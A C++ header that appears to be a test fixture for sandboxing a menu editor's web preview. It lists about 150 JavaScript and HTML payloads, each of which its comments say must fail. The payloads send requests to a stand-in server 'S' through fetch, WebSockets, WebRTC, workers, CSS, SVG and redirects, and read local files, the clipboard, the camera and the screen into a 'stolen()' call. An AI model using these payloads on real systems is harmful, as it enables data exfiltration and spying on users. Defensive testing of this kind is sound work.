// SPDX-License-Identifier: MIT
#pragma once

#include <QString>
#include <vector>

namespace zev {

/// Where a way stands in the definition.
enum class WayIn {
    Html,        ///< the caption of an item
    Script,      ///< an error handler in the caption of an item
    Link,        ///< the address of an item, which is then clicked
    Before,      ///< the HTML before each item
    Background,  ///< the picture behind a menu
    Rollover     ///< the picture of an item
};

/// What a way tries, all of which must fail.
enum class WayOut {
    Network,  ///< to reach the server at S
    File,     ///< to read the files at F, and call stolen(what it read)
    Leave,    ///< to reach the server at S by leaving the page
    Window    ///< any of these by a window, after which its page comes to rest
};

/// One line of a hostile definition. In `text`, S stands for the host and port of a server that
/// waits for this way alone, F for the address of a folder of private files.
struct HostileWay {
    const char* name;
    WayIn in;
    WayOut out;
    const char* text;
};

inline const std::vector<HostileWay> kHostileWays = {
    // ---- Interfaces that fetch ----
    {"fetch", WayIn::Script, WayOut::Network, "fetch('http://S/')"},
    {"fetch-no-cors", WayIn::Script, WayOut::Network,
     "fetch('http://S/', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' })"},
    {"xhr", WayIn::Script, WayOut::Network,
     "r = new XMLHttpRequest; r.open('GET', 'http://S/'); r.send()"},
    {"xhr-waiting", WayIn::Script, WayOut::Network,
     "r = new XMLHttpRequest; r.open('GET', 'http://S/', false); r.send()"},
    {"beacon", WayIn::Script, WayOut::Network, "navigator.sendBeacon('http://S/', 'x')"},
    {"event-source", WayIn::Script, WayOut::Network, "new EventSource('http://S/')"},
    {"web-socket", WayIn::Script, WayOut::Network, "new WebSocket('ws://S/')"},
    {"web-socket-secure", WayIn::Script, WayOut::Network, "new WebSocket('wss://S/')"},
    {"web-transport", WayIn::Script, WayOut::Network, "new WebTransport('https://S/')"},
    {"https", WayIn::Script, WayOut::Network, "fetch('https://S/', { mode: 'no-cors' })"},
    {"ftp", WayIn::Html, WayOut::Network, "<img src=\"ftp://S/x.png\">"},
    {"import-call", WayIn::Script, WayOut::Network, "import('http://S/x.js')"},
    {"paint-worklet", WayIn::Script, WayOut::Network,
     "CSS.paintWorklet.addModule('http://S/x.js')"},
    {"audio-worklet", WayIn::Script, WayOut::Network,
     "new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule('http://S/x.js')"},
    {"wasm", WayIn::Script, WayOut::Network, "WebAssembly.compileStreaming(fetch('http://S/x'))"},
    {"font-face-object", WayIn::Script, WayOut::Network,
     "new FontFace('a', 'url(http://S/x)').load()"},

    // ---- Elements with an address ----
    {"img", WayIn::Html, WayOut::Network, "<img src=\"http://S/x.png\">"},
    {"img-no-scheme", WayIn::Html, WayOut::Network, "<img src=\"//S/x.png\">"},
    {"img-srcset", WayIn::Html, WayOut::Network, "<img srcset=\"http://S/x.png 1x\">"},
    {"picture", WayIn::Html, WayOut::Network,
     "<picture><source srcset=\"http://S/x.png\"><img src=\"data:,\"></picture>"},
    {"input-image", WayIn::Html, WayOut::Network, "<input type=image src=\"http://S/x.png\">"},
    {"table-background", WayIn::Html, WayOut::Network,
     "<table background=\"http://S/x.png\"><tr><td>x</table>"},
    {"video", WayIn::Html, WayOut::Network,
     "<video src=\"http://S/x.mp4\" autoplay muted></video>"},
    {"video-poster", WayIn::Html, WayOut::Network, "<video poster=\"http://S/x.png\"></video>"},
    {"audio", WayIn::Html, WayOut::Network, "<audio src=\"http://S/x.mp3\" preload=auto></audio>"},
    {"media-source", WayIn::Html, WayOut::Network,
     "<video preload=auto><source src=\"http://S/x.mp4\"></video>"},
    {"track", WayIn::Html, WayOut::Network,
     "<video src=\"data:video/mp4,\"><track default src=\"http://S/x.vtt\"></video>"},
    {"script-element", WayIn::Script, WayOut::Network,
     "s = document.createElement('script'); s.src = 'http://S/x.js'; document.body.append(s)"},
    {"script-module", WayIn::Script, WayOut::Network,
     "s = document.createElement('script'); s.type = 'module'; s.src = 'http://S/x.js';"
     "document.body.append(s)"},
    {"script-svg", WayIn::Script, WayOut::Network,
     "s = document.createElementNS('http://www.w3.org/2000/svg', 'script');"
     "s.setAttribute('href', 'http://S/x.js'); v = document.createElementNS(s.namespaceURI, 'svg');"
     "v.append(s); document.body.append(v)"},
    {"document-write", WayIn::Script, WayOut::Network,
     "f = document.createElement('iframe'); document.body.append(f); d = f.contentDocument;"
     "d.write('<script src=http://S/x.js></' + 'script><img src=http://S/x.png>')"},
    {"iframe", WayIn::Html, WayOut::Network, "<iframe src=\"http://S/\"></iframe>"},
    {"iframe-text", WayIn::Html, WayOut::Network,
     "<iframe srcdoc=\"&lt;img src=http://S/x.png>&lt;script src=http://S/x.js>&lt;/script>\">"
     "</iframe>"},
    {"iframe-data", WayIn::Html, WayOut::Network,
     "<iframe src=\"data:text/html,<img src=http://S/x.png>\"></iframe>"},
    {"iframe-blob", WayIn::Script, WayOut::Network,
     "f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob("
     "['<img src=http://S/x.png>'], { type: 'text/html' })); document.body.append(f)"},
    {"iframe-javascript", WayIn::Html, WayOut::Network,
     "<iframe src=\"javascript:fetch(%22http://S/%22)\"></iframe>"},
    {"iframe-empty", WayIn::Script, WayOut::Network,
     "f = document.createElement('iframe'); document.body.append(f);"
     "f.contentWindow.fetch('http://S/', { mode: 'no-cors' })"},
    {"frame-set", WayIn::Script, WayOut::Network,
     "f = document.createElement('frameset'); f.innerHTML = '<frame src=http://S/>';"
     "document.body.append(f)"},
    {"object", WayIn::Html, WayOut::Network, "<object data=\"http://S/x.html\"></object>"},
    {"embed", WayIn::Html, WayOut::Network, "<embed src=\"http://S/x.pdf\">"},
    {"portal", WayIn::Html, WayOut::Network, "<portal src=\"http://S/\"></portal>"},
    {"link-ping", WayIn::Script, WayOut::Network,
     "a = document.createElement('a'); a.href = '#x'; a.ping = 'http://S/';"
     "document.body.append(a); a.click()"},

    // ---- Hints about what may be needed ----
    {"style-sheet", WayIn::Html, WayOut::Network, "<link rel=stylesheet href=\"http://S/x.css\">"},
    {"preload", WayIn::Html, WayOut::Network,
     "<link rel=preload as=image href=\"http://S/x.png\">"},
    {"preload-fetch", WayIn::Html, WayOut::Network,
     "<link rel=preload as=fetch crossorigin href=\"http://S/x\">"},
    {"module-preload", WayIn::Html, WayOut::Network,
     "<link rel=modulepreload href=\"http://S/x.js\">"},
    {"prefetch", WayIn::Html, WayOut::Network, "<link rel=prefetch href=\"http://S/\">"},
    {"prerender", WayIn::Html, WayOut::Network, "<link rel=prerender href=\"http://S/\">"},
    {"preconnect", WayIn::Html, WayOut::Network, "<link rel=preconnect href=\"http://S/\">"},
    {"preconnect-in-head", WayIn::Script, WayOut::Network,
     "l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'http://S/';"
     "document.head.append(l)"},
    {"preconnect-credentials", WayIn::Script, WayOut::Network,
     "l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'https://S/';"
     "l.crossOrigin = 'anonymous'; document.head.append(l)"},
    {"icon", WayIn::Script, WayOut::Network,
     "l = document.createElement('link'); l.rel = 'icon'; l.href = 'http://S/x.ico';"
     "document.head.append(l)"},
    {"manifest", WayIn::Script, WayOut::Network,
     "l = document.createElement('link'); l.rel = 'manifest'; l.href = 'http://S/x.json';"
     "document.head.append(l)"},
    {"speculation-rules", WayIn::Script, WayOut::Network,
     "s = document.createElement('script'); s.type = 'speculationrules';"
     "s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['http://S/'] }] });"
     "document.head.append(s)"},
    {"policy-report", WayIn::Script, WayOut::Network,
     "m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy';"
     "m.content = \"object-src 'none'; report-uri http://S/\"; document.head.append(m);"
     "o = document.createElement('object'); o.data = 'data:text/html,x'; document.body.append(o)"},

    // ---- Style ----
    {"css-import", WayIn::Html, WayOut::Network, "<style>@import url(http://S/x.css);</style>"},
    {"css-background", WayIn::Html, WayOut::Network,
     "<b style=\"background: url(http://S/x.png)\">x</b>"},
    {"css-image-set", WayIn::Html, WayOut::Network,
     "<b style=\"background: -webkit-image-set(url(http://S/x.png) 1x)\">x</b>"},
    {"css-list", WayIn::Html, WayOut::Network,
     "<ul style=\"list-style-image: url(http://S/x.png)\"><li>x</ul>"},
    {"css-border", WayIn::Html, WayOut::Network,
     "<b style=\"border: 1px solid; border-image: url(http://S/x.png) 1\">x</b>"},
    {"css-cursor", WayIn::Html, WayOut::Network,
     "<b style=\"cursor: url(http://S/x.cur), auto\">x</b>"},
    {"css-mask", WayIn::Html, WayOut::Network,
     "<b style=\"-webkit-mask: url(http://S/x.png)\">x</b>"},
    {"css-filter", WayIn::Html, WayOut::Network,
     "<b style=\"filter: url(http://S/x.svg#f)\">x</b>"},
    {"css-content", WayIn::Html, WayOut::Network,
     "<style>.zc::before { content: url(http://S/x.png) }</style><b class=zc>x</b>"},
    {"css-font", WayIn::Script, WayOut::Network,
     "s = document.createElement('style'); s.textContent ="
     "'@font-face { font-family: zf; src: url(http://S/x.woff) } #zf { font: 9px zf }';"
     "b = document.createElement('b'); b.id = 'zf'; b.textContent = 'x'; document.body.append(s, "
     "b)"},

    // ---- SVG, MathML, templates ----
    {"svg-image", WayIn::Html, WayOut::Network, "<svg><image href=\"http://S/x.png\"/></svg>"},
    {"svg-use", WayIn::Html, WayOut::Network, "<svg><use href=\"http://S/x.svg#a\"/></svg>"},
    {"svg-fe-image", WayIn::Html, WayOut::Network,
     "<svg><filter id=zq><feImage href=\"http://S/x.png\"/></filter>"
     "<rect width=9 height=9 filter=\"url(#zq)\"/></svg>"},
    {"svg-style", WayIn::Html, WayOut::Network,
     "<svg><style>@import url(http://S/x.css);</style></svg>"},
    {"svg-foreign", WayIn::Html, WayOut::Network,
     "<svg><foreignObject><iframe src=\"http://S/\"></iframe></foreignObject></svg>"},
    {"svg-data", WayIn::Html, WayOut::Network,
     "<img src=\"data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><image "
     "href=%22http://S/x.png%22/></svg>\">"},
    {"mathml", WayIn::Html, WayOut::Network,
     "<math><mtext><table><mglyph><style><img src=\"http://S/x.png\"></style></table></math>"},
    {"template", WayIn::Script, WayOut::Network,
     "t = document.createElement('template'); t.innerHTML = '<iframe src=http://S/></iframe>';"
     "document.body.append(t.content)"},
    {"noscript", WayIn::Html, WayOut::Network,
     "<noscript><p title=\"</noscript><iframe src=http://S/></iframe>\"></noscript>"},
    {"base", WayIn::Script, WayOut::Network,
     "b = document.createElement('base'); b.href = 'http://S/'; document.head.prepend(b);"
     "s = document.createElement('script'); s.src = 'zevmenu_dom.js'; document.body.append(s);"
     "fetch('orlet_temp.js'); setTimeout(() => b.remove(), 500)"},
    {"xslt", WayIn::Script, WayOut::Network,
     "p = new XSLTProcessor; x = new DOMParser().parseFromString('<xsl:stylesheet version=\"1.0\" "
     "xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:import href=\"http://S/x.xsl\"/>"
     "<xsl:template match=\"/\"><a><xsl:copy-of select=\"document('+\"'http://S/x.xml'\"+')\"/></a>"
     "</xsl:template></xsl:stylesheet>', 'text/xml'); p.importStylesheet(x);"
     "p.transformToDocument(x)"},

    // ---- Workers ----
    {"worker", WayIn::Script, WayOut::Network, "new Worker('http://S/x.js')"},
    {"worker-data", WayIn::Script, WayOut::Network,
     "new Worker('data:text/javascript,fetch(\"http://S/\",{mode:\"no-cors\"});"
     "new WebSocket(\"ws://S/\")')"},
    {"worker-blob", WayIn::Script, WayOut::Network,
     "new Worker(URL.createObjectURL(new Blob(['fetch(\"http://S/\",{mode:\"no-cors\"});"
     "new WebSocket(\"ws://S/\")'])))"},
    {"worker-shared", WayIn::Script, WayOut::Network,
     "new SharedWorker(URL.createObjectURL(new Blob(['fetch(\"http://S/\",{mode:\"no-cors\"});"
     "new WebSocket(\"ws://S/\")'])))"},
    {"worker-shared-data", WayIn::Script, WayOut::Network,
     "new SharedWorker('data:text/javascript,fetch(\"http://S/\",{mode:\"no-cors\"})')"},
    {"worker-service", WayIn::Script, WayOut::Network,
     "navigator.serviceWorker.register('http://S/x.js')"},
    {"worker-of-a-frame", WayIn::Script, WayOut::Network,
     "f = document.createElement('iframe'); document.body.append(f);"
     "new f.contentWindow.Worker('data:text/javascript,new WebSocket(\"ws://S/\")')"},

    // ---- Calls between browsers ----
    {"rtc-stun", WayIn::Script, WayOut::Network,
     "p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:S' }] }); p.createDataChannel('x');"
     "p.setLocalDescription(await p.createOffer()); window.keep = [window.keep, p]"},
    {"rtc-turn-udp", WayIn::Script, WayOut::Network,
     "p = new RTCPeerConnection({ iceServers: [{ urls: 'turn:S', username: 'x', credential: 'x' }]"
     "}); p.createDataChannel('x'); p.setLocalDescription(await p.createOffer());"
     "window.keep = [window.keep, p]"},
    {"rtc-turn-tcp", WayIn::Script, WayOut::Network,
     "p = new RTCPeerConnection({ iceServers: [{ urls: 'turn:S?transport=tcp', username: 'x',"
     "credential: 'x' }] }); p.createDataChannel('x'); p.setLocalDescription(await "
     "p.createOffer()); window.keep = [window.keep, p]"},
    {"rtc-of-a-frame-stun", WayIn::Script, WayOut::Network,
     "f = document.createElement('iframe'); document.body.append(f);"
     "p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:S' }] });"
     "p.createDataChannel('x'); p.setLocalDescription(await p.createOffer());"
     "window.keep = [window.keep, p]"},
    {"rtc-of-a-frame-turn-tcp", WayIn::Script, WayOut::Network,
     "f = document.createElement('iframe'); document.body.append(f);"
     "p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'turn:S?transport=tcp',"
     "username: 'x', credential: 'x' }] }); p.createDataChannel('x');"
     "p.setLocalDescription(await p.createOffer()); window.keep = [window.keep, p]"},

    // ---- The menu's own addresses ----
    {"html-before", WayIn::Before, WayOut::Network, "<img src=\"http://S/x.png\">"},
    {"menu-background", WayIn::Background, WayOut::Network, "http://S/x.png"},
    {"rollover", WayIn::Rollover, WayOut::Network, "http://S/x.png"},
    {"javascript-link", WayIn::Link, WayOut::Network,
     "javascript:void fetch(\"http://S/\",{mode:\"no-cors\"})"},

    // ---- Private files ----
    {"file-fetch", WayIn::Script, WayOut::File,
     "stolen(await (await fetch('F/secret.txt')).text())"},
    {"file-xhr", WayIn::Script, WayOut::File,
     "r = new XMLHttpRequest; r.open('GET', 'F/secret.txt', false); r.send();"
     "stolen(r.responseText)"},
    {"file-xhr-capitals", WayIn::Script, WayOut::File,
     "r = new XMLHttpRequest; r.open('GET', 'F/secret.txt'.replace('file:', 'FILE:'), false);"
     "r.send(); stolen(r.responseText)"},
    {"file-xhr-localhost", WayIn::Script, WayOut::File,
     "r = new XMLHttpRequest; r.open('GET', 'F/secret.txt'.replace('//', '//localhost'), false);"
     "r.send(); stolen(r.responseText)"},
    {"file-xhr-slashes", WayIn::Script, WayOut::File,
     "r = new XMLHttpRequest; r.open('GET', 'F/secret.txt'.replace('///', '/'), false); r.send();"
     "stolen(r.responseText)"},
    {"file-beside-the-page", WayIn::Script, WayOut::File,
     "r = new XMLHttpRequest; r.open('GET', 'menu.js', false); r.send(); stolen(r.responseText)"},
    {"file-listing", WayIn::Script, WayOut::File,
     "r = new XMLHttpRequest; r.open('GET', 'F/', false); r.send(); stolen(r.responseText)"},
    {"file-event-source", WayIn::Script, WayOut::File,
     "e = new EventSource('F/secret.txt'); e.onopen = () => stolen('open')"},
    {"file-frame", WayIn::Script, WayOut::File,
     "f = document.createElement('iframe'); f.src = 'F/secret.html'; f.onload = () =>"
     "stolen(f.contentDocument.body.innerText); document.body.append(f)"},
    {"file-frame-runs", WayIn::Script, WayOut::File,
     "onmessage = event => stolen(event.data);"
     "f = document.createElement('iframe'); f.src = 'F/telling.html'; document.body.append(f)"},
    {"file-frame-listing", WayIn::Script, WayOut::File,
     "f = document.createElement('iframe'); f.src = 'F/'; f.onload = () =>"
     "stolen(f.contentDocument.body.innerText); document.body.append(f)"},
    {"file-object", WayIn::Script, WayOut::File,
     "o = document.createElement('object'); o.data = 'F/secret.html'; o.onload = () =>"
     "stolen(o.contentDocument.body.innerText); document.body.append(o)"},
    {"file-embed", WayIn::Script, WayOut::File,
     "e = document.createElement('embed'); e.src = 'F/secret.svg'; document.body.append(e);"
     "e.onload = () => stolen('loaded' + e.getSVGDocument().documentElement.textContent)"},
    {"file-script", WayIn::Script, WayOut::File,
     "s = document.createElement('script'); s.src = 'F/secret.js';"
     "s.onload = () => stolen(secretOfScript); document.body.append(s)"},
    {"file-script-beside-the-page", WayIn::Script, WayOut::File,
     "s = document.createElement('script'); s.src = 'private.js';"
     "s.onload = () => stolen(secretBesidePage); document.body.append(s)"},
    {"file-import", WayIn::Script, WayOut::File, "stolen((await import('F/module.js')).secret)"},
    {"file-style-sheet", WayIn::Script, WayOut::File,
     "l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'F/secret.css';"
     "l.onload = () => stolen(getComputedStyle(document.body).getPropertyValue('--secret'));"
     "document.body.append(l)"},
    {"file-css-import", WayIn::Script, WayOut::File,
     "s = document.createElement('style'); s.textContent = '@import url(F/secret.css);';"
     "s.onload = () => stolen(getComputedStyle(document.body).getPropertyValue('--secret'));"
     "document.body.append(s)"},
    {"file-worker", WayIn::Script, WayOut::File,
     "w = new Worker('F/worker.js'); w.onmessage = event => stolen(event.data)"},
    {"file-worker-blob", WayIn::Script, WayOut::File,
     "w = new Worker(URL.createObjectURL(new Blob([\"importScripts('F/worker.js')\"])));"
     "w.onmessage = event => stolen(event.data)"},
    {"file-canvas", WayIn::Script, WayOut::File,
     "i = new Image; i.src = 'F/secret.png'; await i.decode(); c = "
     "document.createElement('canvas');"
     "x = c.getContext('2d'); x.drawImage(i, 0, 0); stolen(c.toDataURL())"},
    {"file-canvas-relative", WayIn::Script, WayOut::File,
     "i = new Image; i.src = '../private/secret.png'; await i.decode();"
     "c = document.createElement('canvas'); x = c.getContext('2d'); x.drawImage(i, 0, 0);"
     "stolen(c.toDataURL())"},
    {"file-canvas-relative-cors", WayIn::Script, WayOut::File,
     "i = new Image; i.crossOrigin = 'anonymous'; i.src = '../private/secret.png';"
     "await i.decode(); c = document.createElement('canvas'); x = c.getContext('2d');"
     "x.drawImage(i, 0, 0); stolen(c.toDataURL())"},
    {"file-canvas-svg", WayIn::Script, WayOut::File,
     "i = new Image; i.src = 'F/secret.svg'; await i.decode(); c = "
     "document.createElement('canvas');"
     "x = c.getContext('2d'); x.drawImage(i, 0, 0); stolen('' + x.getImageData(0, 0, 1, 1).data)"},
    {"file-bitmap", WayIn::Script, WayOut::File,
     "i = new Image; i.src = 'F/secret.png'; await i.decode(); c = new OffscreenCanvas(9, 9);"
     "x = c.getContext('2d'); x.drawImage(await createImageBitmap(i), 0, 0);"
     "stolen('' + x.getImageData(0, 0, 1, 1).data)"},
    {"file-canvas-cors", WayIn::Script, WayOut::File,
     "i = new Image; i.crossOrigin = 'anonymous'; i.src = 'F/secret.png'; await i.decode();"
     "c = document.createElement('canvas'); x = c.getContext('2d'); x.drawImage(i, 0, 0);"
     "stolen(c.toDataURL())"},
    {"file-canvas-gl", WayIn::Script, WayOut::File,
     "i = new Image; i.src = 'F/secret.png'; await i.decode();"
     "g = document.createElement('canvas').getContext('webgl');"
     "g.texImage2D(g.TEXTURE_2D, 0, g.RGBA, g.RGBA, g.UNSIGNED_BYTE, i); stolen('texture')"},
    {"file-svg-use", WayIn::Script, WayOut::File,
     "d = document.createElement('div'); d.innerHTML = '<svg><use href=\"F/secret.svg#a\"/></svg>';"
     "document.body.append(d); await new Promise(go => setTimeout(go, 700));"
     "stolen(d.querySelector('use').getBBox().width || '')"},
    {"file-track", WayIn::Script, WayOut::File,
     "v = document.createElement('video'); t = document.createElement('track');"
     "t.default = true; t.src = 'F/secret.vtt'; v.append(t); document.body.append(v);"
     "t.track.mode = 'showing'; t.onload = () => stolen(t.track.cues[0].text)"},
    {"file-media", WayIn::Script, WayOut::File,
     "a = new Audio('F/secret.wav'); a.preload = 'auto'; a.onloadedmetadata = () =>"
     "stolen('' + a.duration)"},
    {"file-font", WayIn::Script, WayOut::File,
     "f = new FontFace('zz', 'url(F/secret.ttf)'); await f.load(); stolen(f.status)"},
    {"file-xslt", WayIn::Script, WayOut::File,
     "p = new XSLTProcessor; p.importStylesheet(new DOMParser().parseFromString("
     "'<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">"
     "<xsl:template match=\"/\"><a><xsl:copy-of select=\"document('+\"'F/secret.xml'\"+')\"/></a>"
     "</xsl:template></xsl:stylesheet>', 'text/xml')); stolen(p.transformToDocument(new DOMParser()"
     ".parseFromString('<a/>', 'text/xml')).documentElement.textContent)"},
    {"file-window", WayIn::Script, WayOut::Window,
     "w = open('F/secret.html'); await new Promise(go => setTimeout(go, 700));"
     "stolen(w.document.body.innerText)"},
    {"file-chooser", WayIn::Script, WayOut::File,
     "i = document.createElement('input'); i.type = 'file'; i.onchange = () => stolen('chosen');"
     "document.body.append(i); i.click()"},
    {"file-system-picker", WayIn::Script, WayOut::File, "stolen('' + await showOpenFilePicker())"},
    {"clipboard", WayIn::Script, WayOut::File, "stolen(await navigator.clipboard.readText())"},
    {"paste-command", WayIn::Script, WayOut::File,
     "t = document.createElement('textarea'); document.body.append(t); t.focus();"
     "document.execCommand('paste'); stolen(t.value)"},
    {"resource-page", WayIn::Script, WayOut::File,
     "stolen(await (await fetch('qrc:/qt-project.org/styles/commonstyle/images/up-32.png'))"
     ".text())"},
    {"place", WayIn::Script, WayOut::File,
     "navigator.geolocation.getCurrentPosition(() => stolen('place'))"},
    {"camera", WayIn::Script, WayOut::File,
     "stolen('' + await navigator.mediaDevices.getUserMedia({ audio: true, video: true }))"},
    {"screen", WayIn::Script, WayOut::File,
     "stolen('' + await navigator.mediaDevices.getDisplayMedia())"},

    // ---- Leaving the page ----
    {"form-get", WayIn::Script, WayOut::Leave,
     "f = document.createElement('form'); f.action = 'http://S/'; document.body.append(f);"
     "f.submit()"},
    {"form-post-file", WayIn::Script, WayOut::Leave,
     "f = document.createElement('form'); f.method = 'post'; f.action = 'http://S/';"
     "f.enctype = 'text/plain'; document.body.append(f); f.requestSubmit()"},
    {"form-new-window", WayIn::Script, WayOut::Window,
     "f = document.createElement('form'); f.action = 'http://S/'; f.target = '_blank';"
     "document.body.append(f); f.submit()"},
    {"form-in-a-frame", WayIn::Script, WayOut::Leave,
     "i = document.createElement('iframe'); i.name = 'zi'; f = document.createElement('form');"
     "f.action = 'http://S/'; f.target = 'zi'; document.body.append(i, f); f.submit()"},
    {"location", WayIn::Script, WayOut::Leave, "location.href = 'http://S/'"},
    {"location-replace", WayIn::Script, WayOut::Leave, "location.replace('http://S/')"},
    {"refresh", WayIn::Script, WayOut::Leave,
     "m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=http://S/';"
     "document.head.append(m)"},
    {"refresh-in-a-caption", WayIn::Html, WayOut::Leave,
     "<meta http-equiv=refresh content=\"0;url=http://S/\">"},
    {"window", WayIn::Script, WayOut::Window, "open('http://S/')"},
    {"window-in-a-frame", WayIn::Script, WayOut::Window,
     "i = document.createElement('iframe'); i.name = 'zw'; document.body.append(i);"
     "open('http://S/', 'zw')"},
    {"link-clicked", WayIn::Link, WayOut::Leave, "http://S/"},
    {"link-new-window", WayIn::Script, WayOut::Window,
     "a = document.createElement('a'); a.href = 'http://S/'; a.target = '_blank';"
     "document.body.append(a); a.click()"},
    {"download", WayIn::Script, WayOut::Leave,
     "a = document.createElement('a'); a.href = 'http://S/'; a.download = 'x';"
     "document.body.append(a); a.click()"},
    {"javascript-address", WayIn::Script, WayOut::Leave,
     "location.href = 'javascript:void fetch(\"http://S/\")'"},
    {"data-address", WayIn::Script, WayOut::Leave,
     "location.href = 'data:text/html,<script>fetch(\"http://S/\")</' + 'script>'"},
    {"blob-address", WayIn::Script, WayOut::Leave,
     "location.href = URL.createObjectURL(new Blob(['<script>fetch(\"http://S/\")</' + 'script>'],"
     "{ type: 'text/html' }))"},
};

}  // namespace zev
